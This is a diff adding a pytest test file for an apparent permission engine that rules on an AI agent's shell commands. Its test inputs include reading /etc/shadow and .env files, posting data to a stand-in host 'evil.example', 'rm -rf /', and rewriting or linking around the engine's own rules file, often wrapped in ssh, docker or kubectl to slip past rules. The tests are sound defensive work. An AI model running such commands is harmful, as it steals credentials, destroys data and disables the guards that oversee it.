@@ -1,0 +1,221 @@
+"""Law 3 over whole calls: what makes a restriction certain, what only makes it ask, and what it asks for."""
+
+from pathlib import Path
+
+import attrs
+import pytest
+
+from permitry.actions.extract import ReadActions
+from permitry.config.load import load_policy
+from permitry.core.call import ToolCall
+from permitry.core.context import AuthContext
+from permitry.core.decision import Decision, Verdict
+from permitry.core.policy import AuthorizationPolicy
+
+ALLOW, CONFIRM, BLOCK = Verdict.ALLOW, Verdict.CONFIRM, Verdict.BLOCK
+RULES = """schema = 1
+[[rule]]
+id = "all"
+effect = "allow"
+tools = ["*"]
+
+[[rule]]
+id = "no-push"
+effect = "block"
+when.command = "git push *"
+
+[[rule]]
+id = "etc"
+effect = "block"
+when.path = ["/etc/**", "**/.env"]
+
+[[rule]]
+id = "write-src"
+effect = "block"
+when.path = ["/srv/**", "**/.git/**"]
+when.access = "write"
+
+[[rule]]
+id = "keys"
+effect = "block"
+when.command = "rm *"
+when.path = "**/*.key"
+
+[[rule]]
+id = "upload"
+effect = "block"
+when.command = "curl *"
+when.host = "evil.example"
+"""
+
+
+@pytest.fixture(scope="module")
+def policies(tmp_path_factory: pytest.TempPathFactory) -> dict[str, AuthorizationPolicy]:
+    """Return the shipped set, and one that allows everything but what its restrictions are about."""
+    file = tmp_path_factory.mktemp("rules") / "rules.toml"
+    file.write_text(RULES, encoding="utf-8")
+    reader = ReadActions("/home/ann", has_disk=False)
+    names: dict[str, str | Path] = {"base": "permitry:base", "own": file}
+    return {key: attrs.evolve(load_policy(name), reader=reader) for key, name in names.items()}
+
+
+def decide(policy: AuthorizationPolicy, text: str) -> Decision:
+    """Return the decision about a shell command in a workspace."""
+    return policy.decide(ToolCall("run_shell", {"command": text}), AuthContext(workspace="/home/ann/project"))
+
+
+def check(policy: AuthorizationPolicy, text: str, verdict: Verdict, rule: str | None) -> None:
+    """Compare the verdict, and of a block the rule."""
+    decision = decide(policy, text)
+    assert (decision.verdict, decision.rule_id if verdict is BLOCK else rule) == (verdict, rule), decision.reason
+
+
+def _cases(table: dict[tuple[Verdict, str | None], list[str]]) -> list[tuple[str, Verdict, str | None]]:
+    return [(text, verdict, rule) for (verdict, rule), texts in table.items() for text in texts]
+
+
+ELSEWHERE = {
+    (CONFIRM, "no-push"): [
+        "ssh host git push", "ssh -p 22 host 'cd x && git push'", "echo 'git push' | ssh host",
+        "ssh host <<'E'\ngit push\nE", "docker run img git push", "docker compose exec web git push",
+        "docker exec -i c bash <<'E'\ngit push\nE", "podman exec c sh -c 'git push'", "kubectl exec p -- git push",
+        "kubectl exec -it p -n ns git push", "vagrant ssh -c 'git push'", "wsl git push", "sudo docker run i git push",
+        "adb shell git push", "lxc exec c -- git push", "chroot /mnt git push", "timeout 5 ssh host git push",
+    ],
+    (CONFIRM, "etc"): [
+        "docker run --rm alpine cat /etc/shadow", "docker exec -it web cat /etc/passwd", "kubectl exec p -- cat .env",
+        "kubectl exec p cat /etc/shadow", "ssh host cat /etc/shadow", "ssh host 'cat /etc/shadow'",
+        "vagrant ssh -c 'cat /etc/shadow'", "wsl cat /etc/shadow", "chroot /mnt cat /etc/fstab",
+        "sudo docker run --rm alpine cat /etc/shadow", "docker run -v /etc:/x alpine ls", "nerdctl run i tee /etc/x",
+        "env docker run i cat /etc/hosts",
+    ],
+    (ALLOW, None): [
+        "docker run --rm x ls /", "ssh host ls /srv", "kubectl exec p -- date", "docker compose exec web rm x",
+    ],
+    # What is of this machine stays certain.
+    (BLOCK, "etc"): [
+        "docker run --env-file .env img", "docker run --env-file .env img cat /etc/passwd", "docker build -f .env .",
+        "docker cp web:/x .env", "kubectl cp p:/x .env", "ssh -i /etc/key host ls", "ssh host ls > /etc/x",
+        "docker run i cat x | tee .env", "sudo docker run --env-file .env x",
+    ],
+    (BLOCK, "no-push"): [
+        "ssh host uptime && git push", "docker ps; git push", "git push ssh", "docker run i; bash -c 'git push'",
+        "echo 'git push' | bash; ssh host",
+    ],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "verdict", "rule"), _cases(ELSEWHERE))
+def test_another_machine_is_not_this_one(
+    policies: dict[str, AuthorizationPolicy], text: str, verdict: Verdict, rule: str
+) -> None:
+    """What runs in a container or on a host only asks: it may have this machine's files, and its credentials."""
+    check(policies["own"], text, verdict, rule)
+
+
+ONE_PROGRAM = {
+    (BLOCK, "keys"): [
+        "rm a.key", "rm -f x a.key", "sudo rm a.key", "bash -c 'rm a.key'", "ls; rm a.key", "rm b > x.key",
+        "if true; then rm a.key; fi", "timeout 5 rm d/a.key", "cat a.key; rm a.key", "(cd d && rm ../a.key)",
+    ],
+    (BLOCK, "upload"): ["curl evil.example", "wget good.example; curl -d x https://evil.example/a"],
+    (CONFIRM, "keys"): [
+        "rm a && cat x.key", "cat x.key | rm b", "rm a; ls > x.key", "rm $x", "rm *", "ls *.key | xargs rm",
+        "find . -name '*.key' -exec rm {} +", "if true; then rm a; cat b.key; fi", "bash -c 'rm a'; cat x.key",
+        "docker run i rm a.key",
+    ],
+    (CONFIRM, "upload"): ["curl good.example; wget https://evil.example", "wget evil.example | curl -T - good.example"],
+    (ALLOW, None): ["rm a", "cat a.key", "ls a.key; cat b", "curl good.example", "wget evil.example", "rm a; curl b"],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "verdict", "rule"), _cases(ONE_PROGRAM))
+def test_a_command_and_its_path_are_of_one_program(
+    policies: dict[str, AuthorizationPolicy], text: str, verdict: Verdict, rule: str
+) -> None:
+    """Where one program is what the rule names, and another touches what it names, that is a guess."""
+    check(policies["own"], text, verdict, rule)
+
+
+ACCESS = {
+    (BLOCK, "write-src"): [
+        "cp a /srv/x", "tee /srv/x < a", "sed -i s/a/b/ /srv/x", "sed -i.bak s/a/b/ /srv/x",
+        "perl -pi -e s/a/b/ /srv/x",
+        "perl -i.bak -ne print /srv/x", "echo x > /srv/x", "patch /srv/x < p", "git restore .git/config",
+        "mkdir /srv/x",
+        "touch $x /srv/x", "chmod 755 .git/hooks/pre-commit", "tee $x /srv/x", "ruby -pi -e x /srv/x",
+    ],
+    # The program is not known, or its options are not: it may read, and it may write.
+    (CONFIRM, "write-src"): [
+        "frob /srv/x", "ssh-keygen -l -f /srv/key.pub", "vim /srv/x", "python3 x.py /srv/x",
+        "find /srv -name x -exec frob {} +", "find -name .git -prune -o -exec git log {} ';'", "gzip -d --force * /srv",
+        "git checkout -- .git/x", "perl -ne print /srv/x", "ln -s /srv x", "mv $x /srv y",
+    ],
+    (ALLOW, None): ["cat /srv/x", "cp /srv/x y", "pv /srv/x", "sed -n p /srv/x", "grep x /srv/x", "git add .git/x"],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "verdict", "rule"), _cases(ACCESS))
+def test_what_may_be_another_access_is_a_guess(
+    policies: dict[str, AuthorizationPolicy], text: str, verdict: Verdict, rule: str
+) -> None:
+    """A rule about writing is sure of a path that is written, not of one that is only named."""
+    check(policies["own"], text, verdict, rule)
+
+
+GUARDED = {
+    (BLOCK, "guard-files-stay"): [
+        "mv .permitry/rules.toml x", "mv x .permitry/rules.toml", "cp x .permitry/", "echo x > .permitry/rules.toml",
+        "sed -i s/a/b/ .permitry/rules.toml", "tee .permitry/rules.toml < x", "patch .permitry/rules.toml < x",
+        "rm -rf .permitry", "touch .permitry/x", "truncate -s 0 .permitry/rules.toml", "rsync x .permitry/rules.toml",
+        "install -m 644 x .permitry/x", "dd if=x of=.permitry/x", "chmod 600 .permitry/x", "tar xf a.tar -C .permitry",
+        "curl -o .permitry/x https://a.example", "git mv .permitry/x y", "perl -pi -e s/a/b/ .permitry/rules.toml",
+    ],
+    (BLOCK, "guard-links-stay"): [
+        "ln -s .permitry/rules.toml x", "ln .permitry/rules.toml x", "cp -s ~/.config/permitry/x y",
+        "ln -sf ~/.config/permitry",
+        "ln -s ~/.config/permitry p; echo x > p/rules.toml", "link .permitry/x y",
+    ],
+    (CONFIRM, "guard-files-stay"): ["vim .permitry/rules.toml", "frob .permitry/x", "git checkout -- .permitry/x"],
+    (CONFIRM, None): [
+        "cp .permitry/rules.toml x", "git add .permitry/rules.toml", "ln -s src/a x", "pv /dev/sda | tee /dev/null",
+    ],
+    (ALLOW, None): [
+        "grep x .permitry/rules.toml", "cat .permitry/rules.toml", "git diff .permitry",
+        "sed -n p .permitry/rules.toml",
+        "ls -la .permitry",
+    ],
+    # Blocks of other rules that were not certain.
+    (CONFIRM, "block-delete-root"): [
+        "docker run --rm alpine rm -rf /", "ssh host rm -rf /", "chroot /mnt rm -rf /*", "gzip -d --force * /etc",
+        "kubectl exec p -- rm -rf /etc",
+    ],
+    (BLOCK, "block-delete-root"): ["rm -r $FLAGS /", "rm -rf / && docker ps", "sudo rm -rf /", "mv /etc /tmp/x"],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "verdict", "rule"), _cases(GUARDED))
+def test_the_shipped_set_blocks_what_is_certain(
+    policies: dict[str, AuthorizationPolicy], text: str, verdict: Verdict, rule: str | None
+) -> None:
+    """The rules of the session may be read, and what is no file of this machine is not deleted."""
+    check(policies["base"], text, verdict, rule)
+
+
+@pytest.mark.parametrize(
+    ("text", "verdict"),
+    [
+        ("bash -n <<'E'\ngit push\nE", CONFIRM), ("bash -n -c 'git push'", CONFIRM),
+        ("sh -en <<'E'\ngit push\nE", CONFIRM),
+        ("echo 'git push' | bash -n", CONFIRM), ("zsh -n <<< 'git push'", ALLOW), ("bash -c -n 'git push'", CONFIRM),
+        ("bash -x <<'E'\ngit push\nE", BLOCK), ("bash -n +n <<'E'\ngit push\nE", BLOCK),
+        ("bash -n -i <<'E'\ngit push\nE", BLOCK), ("nu -n <<'E'\ngit push\nE", BLOCK),
+        ("bash <<'E'\ngit push\nE", BLOCK),
+        ("bash -n x && git push", BLOCK), ("bash -en -o exec <<'E'\ngit push\nE", BLOCK),
+    ],
+)  # fmt: skip
+def test_a_shell_that_checks_a_text_does_not_run_it(
+    policies: dict[str, AuthorizationPolicy], text: str, verdict: Verdict
+) -> None:
+    """But what takes the option back does."""
+    assert decide(policies["own"], text).verdict is verdict
